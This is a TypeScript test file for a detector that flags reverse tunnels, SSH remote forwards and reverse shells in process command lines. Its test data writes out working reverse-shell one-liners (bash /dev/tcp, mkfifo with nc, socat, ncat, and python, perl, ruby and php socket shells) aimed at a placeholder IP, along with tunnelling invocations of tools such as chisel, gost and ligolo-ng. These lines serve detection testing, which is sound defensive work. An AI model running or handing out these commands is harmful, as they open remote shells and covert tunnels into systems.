import { describe, expect, it } from "vitest"
import { requestOf, requestOfRenamed } from "./judge.js"
import { aProcess } from "../../testing/processes.js"

const line = (text: string) => requestOf(aProcess(text.split(" ")))
const code = (...argv: string[]) => requestOf(aProcess(argv))

describe("tools by their arguments", () => {
  it.each([
    ["chisel client https://203.0.113.9 R:8080:localhost:80", "chisel", "R:8080:localhost:80"],
    ["updater client --auth a:b 203.0.113.9:443 R:socks", "chisel", "R:socks"],
    ["frpc", "frpc", "frpc"],
    ["x -c /tmp/frpc.toml", "frpc", "-c /tmp/frpc.toml"],
    ["rathole --client client.toml", "rathole", "--client client.toml"],
    ["bore local 8000 --to bore.pub", "bore", "--to bore.pub"],
    ["b local -t bore.pub 8000", "bore", "-t bore.pub"],
    ["ngrok tcp 22", "ngrok", "tcp"],
    ["cloudflared tunnel run --token abc", "cloudflared", "run"],
    ["cloudflared tunnel --url http://localhost:80", "cloudflared", "--url"],
    ["agent -connect 203.0.113.9:11601 -ignore-cert", "ligolo-ng agent", "-connect 203.0.113.9:11601"],
    ["reverse_ssh -d 203.0.113.9:3232", "reverse_ssh", "-d 203.0.113.9:3232"],
    ["gost -L=rtcp://:2222/:22 -F=socks5://203.0.113.9:1080", "gost", "-L=rtcp://:2222/:22"],
    ["gost -L rtcp://:2222/:22 -F socks5://203.0.113.9:1080", "gost", "rtcp://:2222/:22"],
    ["revsocks -connect 203.0.113.9:8443 -pass x", "revsocks", "-connect 203.0.113.9:8443"],
    ["socat TCP:203.0.113.9:443 TCP:127.0.0.1:22", "socat", "TCP:203.0.113.9:443 TCP:127.0.0.1:22"],
  ])("%s", (text, tool, words) => {
    expect(line(text)).toMatchObject({ tool, spellings: [words], kind: "tool" })
  })

  it("plink, whose options are words", () => {
    expect(line("plink -ssh -P 443 -N -R 8080:localhost:80 host")).toMatchObject({
      tool: "plink",
      spellings: ["-R 8080:localhost:80"],
    })
  })
})

describe("what is near to them is not", () => {
  it.each([
    "chisel client https://203.0.113.9 8080:localhost:80",
    "chisel server --reverse",
    "frpc verify -c frps.ini",
    "rathole --server server.toml",
    "bore server",
    "ngrok version",
    "cloudflared access ssh --hostname a",
    "cloudflared tunnel list",
    "agent -connect 203.0.113.9:11601",
    "gost -L=:8080 -F=socks5://203.0.113.9:1080",
    "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:22",
    "socat - TCP:203.0.113.9:443",
    "nc -l -p 9000 -e /bin/sh",
    "nc -zv 203.0.113.9 443",
    "nc -c 203.0.113.9 443",
    "plink -L 8080:localhost:80 host",
    "plink host ls -R x",
    "plink -pw -R host",
    "sshd: agent [priv]",
    "/usr/sbin/sshd -D -R",
    "/usr/lib/openssh/sshd-session -R",
    "ls -R /",
    "grep -R8080 .",
    "kafka local --to topic",
    "sam local start-api -p 3000 -t template.yaml",
    "sam local invoke 3000 -t template.yaml",
    "tool local 3000 4000 -t host",
    "db client R:1",
    "app client --config R:8080",
    "vpn tunnel --url https://vpn.example",
    "app serve --mode tunnel --token x",
    "agent --connect db.example:5432 --retry",
    "gost -L rtcp://:2222/:22",
    "nc -q 1 some-endpoint 80",
    "nc some-endpoint 80 -w 3",
  ])("%s", (text) => {
    expect(line(text)).toBeUndefined()
  })
})

describe("shells in arguments", () => {
  it.each([
    ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"],
    ["sh", "-c", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f"],
    ["socat", "TCP:203.0.113.9:4444", "EXEC:bash,pty,stderr"],
    ["socat", "exec:/bin/sh", "openssl-connect:203.0.113.9:443,verify=0"],
    ["nc", "203.0.113.9", "4444", "-e", "/bin/sh"],
    ["ncat", "--ssl", "203.0.113.9", "443", "--sh-exec", "bash"],
    ["ncat", "203.0.113.9", "443", "-c", "/bin/bash"],
    ["ncat", "203.0.113.9", "443", "-c", "mksh -i"],
    ["busybox", "nc", "203.0.113.9", "4444", "-e", "sh"],
    [
      "python3",
      "-c",
      'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")',
    ],
    [
      "perl",
      "-e",
      'use Socket;socket(S,2,1,6);connect(S,sockaddr_in(44,inet_aton("x")));open(STDIN,"<&S");exec("/bin/sh -i");',
    ],
    ["ruby", "-rsocket", "-e", 'c=TCPSocket.new("203.0.113.9",44);exec "/bin/sh -i <&5"'],
    ["php", "-r", '$s=fsockopen("203.0.113.9",44);exec("/bin/sh -i <&3 >&3");'],
  ])("%s %s %s", (...argv) => {
    expect(code(...argv)).toMatchObject({ kind: "shell", confidence: 0.7 })
  })

  it.each([
    ["bash", "-c", "echo > /dev/tcp/203.0.113.9/22 && echo open"],
    ["bash", "-c", "ssh -NR 8080:localhost:80 host"],
    ["sh", "-c", "nc -z host 22"],
    ["python3", "-c", "import socket;socket.create_connection(('203.0.113.9',443)).send(b'x')"],
    ["python3", "serve.py", "-c", "socket connect dup2 /bin/sh"],
    ["python3", "-c", "import subprocess;subprocess.run(['sh','-c','ls'])"],
  ])("but not in %s %s %s", (...argv) => {
    const request = code(...argv)
    expect(request?.kind).not.toBe("shell")
  })
})

describe("configuration files", () => {
  const forwards = [
    { path: "/home/agent/.ssh/config", directive: "LocalForward 1 a:1" },
    { path: "/home/agent/.ssh/config", directive: "RemoteForward 8080 localhost:80" },
  ]

  it("are named with the directive that counts", () => {
    const request = requestOf(aProcess(["ssh", "-N", "host"], { sshForwards: forwards }))
    expect(request).toMatchObject({
      kind: "remote-forward",
      spellings: ["RemoteForward 8080 localhost:80"],
      confidence: 0.8,
    })
    expect(request?.evidence).toMatchObject([
      { kind: "config-file", facts: { path: "/home/agent/.ssh/config", directive: "RemoteForward 8080 localhost:80" } },
    ])
  })

  it("count for nothing when the command line clears them", () => {
    const argv = ["ssh", "-oClearAllForwardings=yes", "host"]
    expect(requestOf(aProcess(argv, { sshForwards: forwards }))).toBeUndefined()
  })
})

it("reads a renamed client like ssh, with less confidence", () => {
  const facts = aProcess(["kworkerd", "-NR", "8080:localhost:80", "host"])
  expect(requestOf(facts)).toBeUndefined()
  expect(requestOfRenamed(facts)).toMatchObject({ spellings: ["-NR 8080:localhost:80"], confidence: 0.8 })
})

it("is not led astray by what a client calls itself", () => {
  const facts = aProcess(["sshd", "-NR", "8080:localhost:80", "host"], { exe: "/usr/bin/ssh" })
  expect(requestOf(facts)).toMatchObject({ tool: "ssh", confidence: 0.9 })
})

describe("a command line that was cut", () => {
  const cut = (line: string) => requestOf(aProcess(line.split(" "), { argvTruncated: true }))?.kind

  it.each(["ssh -o SendEnv=A", "ssh -o SendEnv=A host", "autossh -M 0 -N host", "plink -P 22"])(
    "of %s is noted",
    (line) => {
      expect(cut(line)).toBe("unread")
    },
  )

  it.each([
    ["ssh host cat", undefined],
    ["ssh -o ClearAllForwardings=yes host", undefined],
    ["ssh -R 1:a:2 host", "remote-forward"],
    ["curl -v", undefined],
  ])("of %s: %s", (line, kind) => {
    expect(cut(line)).toBe(kind)
  })
})

it("cuts long code in evidence", () => {
  const request = code("bash", "-c", `bash -i >& /dev/tcp/h/1 0>&1 ${"x".repeat(5000)}`)
  expect(String(request?.evidence[0].facts["argv"]).length).toBeLessThan(310)
})
